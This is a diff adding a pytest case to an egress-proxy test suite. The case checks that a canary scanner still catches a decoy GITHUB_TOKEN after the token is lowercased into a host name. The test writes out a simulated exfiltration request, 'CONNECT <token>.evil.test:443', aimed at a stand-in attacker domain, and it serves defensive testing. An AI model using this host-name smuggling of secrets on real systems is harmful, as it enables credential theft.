@@ -18,6 +18,7 @@ from typing import Any, TypeVar
 
 import pytest
 
+from app.isolation.canary import Canaries
 from app.isolation.egress import Connection, EgressPolicy, EgressProxy
 from tests.servers import free_port
 
@@ -425,6 +426,22 @@ def test_a_canary_in_a_connect_host_is_cut_before_any_lookup(
     assert tripped == ["aws"]
     assert resolver.calls == []
     assert [r.levelno for r in caplog.records if r.getMessage() == "egress canary tripped"] == [logging.ERROR]
+
+
+def test_a_decoy_lower_cased_into_a_host_name_is_still_found(sock: Path) -> None:
+    """Host names ignore case, so an exfiltration by DNS-style name may fold it; the decoys' scan does too."""
+    canaries = Canaries.from_seed("egress-test")
+    token = canaries.value("GITHUB_TOKEN").lower()
+
+    async def scenario() -> list[str]:
+        policy = EgressPolicy(frozenset({"pypi.org"}))
+        async with EgressProxy(resolve=FakeResolver({})).channel(
+            sock, "agent", policy, scan=canaries.find
+        ) as channel:
+            await _exchange(sock, f"CONNECT {token}.evil.test:443 HTTP/1.1\r\n\r\n".encode())
+        return channel.tripped
+
+    assert _run(scenario) == ["GITHUB_TOKEN"]
 
 
 def test_a_failing_scanner_closes_that_connection_and_the_channel_keeps_serving(
